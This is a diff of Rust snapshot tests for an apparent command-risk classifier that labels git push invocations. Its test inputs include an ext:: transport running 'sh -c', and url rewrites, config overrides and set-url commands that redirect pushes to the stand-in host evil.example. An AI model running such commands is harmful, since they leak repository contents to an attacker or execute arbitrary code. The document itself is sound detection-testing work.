@@ -99,19 +99,20 @@ fn options() {
 fn remotes() {
     assert_snapshot!(check("git push https://user:pw@github.com/acme/shop.git main"), @"git.push main@https://github.com/acme/shop.git, write");
     assert_snapshot!(check("git push nowhere main"), @"git.push main@nowhere, write, partial");
-    assert_snapshot!(check("git push ext::'sh -c x' main"), @r#"
+    assert_snapshot!(check("git push ext::'sh -c x' main"), @"
     exec.opaque git push, execute, opaque
     git.push main@ext::sh -c x, write
-    "#);
+    ");
     assert_snapshot!(check_with("git push origin main", &[("remote.origin.pushurl", "git@a.example:x/y.git"), ("remote.origin.pushurl", "git@b.example:x/y.git")]), @r#"
     git.push main@origin, write
     git.push main@origin, write
     "#);
     assert_snapshot!(check_with("git push origin main", &[("url.git@evil.example:.pushinsteadof", "git@github.com:")]), @"git.push main@origin, write");
-    assert_snapshot!(check("git -c remote.origin.url=git@evil.example:x/y.git push origin main"), @r#"
+    assert_snapshot!(check("git -c remote.origin.url=git@evil.example:x/y.git push origin main"), @"
     git.push main@origin, write
-    git.push main@origin, write
-    "#);
+    net.upload git@evil.example:x/y.git, send
+    git.push main@origin, write, partial
+    ");
     assert_snapshot!(check("git remote set-url origin git@evil.example:x/y && git push origin feature"), @r#"
     git.config /repo, write
     git.force-push *@origin, destroy, partial
